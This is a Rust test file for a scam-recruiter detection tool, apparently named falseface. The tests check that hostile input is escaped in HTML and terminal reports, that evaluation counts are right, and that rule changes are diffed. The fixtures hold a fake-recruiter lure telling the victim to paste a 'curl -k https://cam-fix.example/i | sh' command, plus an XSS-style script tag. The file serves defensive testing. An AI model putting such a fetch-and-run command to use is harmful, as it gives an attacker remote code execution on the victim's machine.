//! Evaluations as pages and objects: what came from a file cannot become markup, and the numbers are those counted.

mod common;

use common::{detection, now};
use falseface::content::ContentFile;
use falseface::dossier::Locator;
use falseface::evaluation::{Evaluation, Labels, RuleChange, Settings, Tally, evaluate};
use falseface::report::{Style, evaluation_html, evaluation_json, evaluation_terminal};
use falseface::rules::changes;
use falseface::screen::{Detection, Stages};
use falseface::screening::Summary;
use falseface::{Dossier, Options};
use std::sync::Arc;

const HOSTILE: &str = "<script>alert(1)</script>\u{202e}\u{1b}[31m";

/// Two people, one of whom asks for what only an impostor asks for; ids, languages and clusters are hostile.
fn evaluation() -> Evaluation {
    let lure = "Your camera is blocked. Open Terminal and paste this command: curl -k https://cam-fix.example/i | sh";
    let greeting = "Thank you for applying. Could we talk on Tuesday at ten?";
    let labels = format!(
        "id\tfake_recruiter\tcluster\tlanguage\n{HOSTILE}\t1\t{HOSTILE}\t{HOSTILE}\nquiet\t1\t\t\nloud\t0\t\t\n{HOSTILE}x\t0\t\t\n"
    );
    let rules = detection().rules.rules().iter().map(|rule| Arc::clone(&rule.info)).collect();
    let mut tally = Tally::new(rules, Some(Labels::parse(&labels).expect("labels")));
    let stages = Stages::new(detection());
    let options = Options::at(now());
    for (id, text) in [(HOSTILE, lure), ("quiet", greeting), ("loud", lure)] {
        let dossier: Dossier = serde_json::from_value(serde_json::json!({
            "schema": "falseface.dossier/1", "id": id, "role": "recruiter",
            "messages": [{ "from_subject": true, "text": text }],
        }))
        .expect("a dossier");
        tally.add(&stages.assess(&dossier, Locator::file("memory"), &options));
    }
    let settings = Settings { labels: Some(HOSTILE.to_owned()), prevalence: Some(0.01), worst: 10 };
    evaluate(tally, options.run(detection()), &Summary::default(), settings).expect("labelled")
}

#[test]
fn a_page_holds_no_markup_of_others_and_loads_nothing() {
    let mut bytes = Vec::new();
    evaluation_html(&mut bytes, &evaluation()).expect("memory takes everything");
    let page = String::from_utf8(bytes).expect("UTF-8");
    assert!(page.contains("default-src 'none'; style-src 'sha256-"), "a strict policy");
    for banned in ["<script", " style=", " onload", "src=", "href=", "url(", "@import", "\u{202e}", "\u{1b}"] {
        assert!(!page.contains(banned), "{banned:?} stands in the page");
    }
    assert!(page.contains("&lt;script&gt;"), "it is shown instead");
    for needed in [
        "<h1>",
        "<h2 id=\"fake_recruiter\">",
        "scope=\"col\"",
        "scope=\"row\"",
        "<figcaption>",
        "role=\"img\"",
        "prefers-color-scheme: dark",
    ] {
        assert!(page.contains(needed), "{needed} is missing");
    }
}

#[test]
fn an_object_says_what_was_counted() {
    let mut bytes = Vec::new();
    evaluation_json(&mut bytes, &evaluation()).expect("memory takes everything");
    let object: serde_json::Value = serde_json::from_slice(&bytes).expect("one object");
    assert_eq!(object["schema"], "falseface.evaluation/1");
    let detector = &object["detectors"]["fake_recruiter"];
    assert_eq!((&detector["positives"], &detector["negatives"]), (&2.into(), &1.into()));
    assert_eq!(detector["review"]["recall"]["estimate"], 0.5);
    assert_eq!(detector["misses"][0]["dossier"], "quiet");
    assert_eq!(detector["false_alarms"][0]["dossier"], "loud");
    assert_eq!(object["counts"]["labels_without_record"], 1);
    assert!(detector["review"]["precision"]["estimate"].as_f64().is_some_and(|share| share < 0.01));
}

#[test]
fn a_terminal_is_not_steered() {
    let mut bytes = Vec::new();
    evaluation_terminal(&mut bytes, &evaluation(), &Style::default()).expect("memory takes everything");
    let text = String::from_utf8(bytes).expect("UTF-8");
    assert!(text.chars().all(|character| character == '\n' || !character.is_control()), "{text}");
    assert!(!text.contains('\u{202e}'));
}

#[test]
fn labels_and_language_change_nothing_in_what_is_found() {
    let stages = Stages::new(detection());
    let options = Options::at(now());
    let assessed = |extra: serde_json::Value| {
        let mut record = serde_json::json!({
            "schema": "falseface.dossier/1", "id": "p1", "role": "recruiter",
            "messages": [{ "from_subject": true, "text": "Open Terminal and paste this command: curl -k https://a.example/i | sh" }],
        });
        for (key, value) in extra.as_object().expect("an object") {
            record[key] = value.clone();
        }
        let dossier: Dossier = serde_json::from_value(record).expect("a dossier");
        stages.assess(&dossier, Locator::file("memory"), &options)
    };
    let plain = assessed(serde_json::json!({}));
    let judged = assessed(serde_json::json!({
        "labels": [{ "detector": "fake_recruiter", "positive": false, "reason": "an installer from our own handbook" }],
        "extra": { "language": "en" },
    }));
    assert_eq!(judged.detectors, plain.detectors);
    assert_eq!(judged.screened.findings, plain.screened.findings);
    assert_eq!(judged.screened.judged.language.as_deref(), Some("en"));
}

#[test]
fn a_rule_is_changed_where_a_verdict_could_be() {
    let written = include_str!("cmd/difference.in/old/detections/conduct/lure-tuesday-talk.yml");
    let compiled = |text: String| {
        let file = ContentFile { path: "detections/conduct/lure-tuesday-talk.yml".to_owned(), text: text.into() };
        Detection::load(&[file], &[]).expect("the rule compiles")
    };
    let old = compiled(written.to_owned());
    let words = compiled(written.replace("People who work on that day.", "Anybody."));
    assert_eq!(changes(&old.rules, &words.rules), [], "words of explanation move nobody");
    let other =
        written.replace("contains: tuesday", "contains: tues").replace("condition: tuesday", "condition: all of tues*");
    let [RuleChange::Changed { rule, differences }] = &*changes(&old.rules, &compiled(other).rules) else {
        panic!("one rule differs");
    };
    assert_eq!(rule, "lure-tuesday-talk");
    assert_eq!(differences, &["condition `tuesday` → `all of tues*`", "selection `tuesday` changed"]);
}
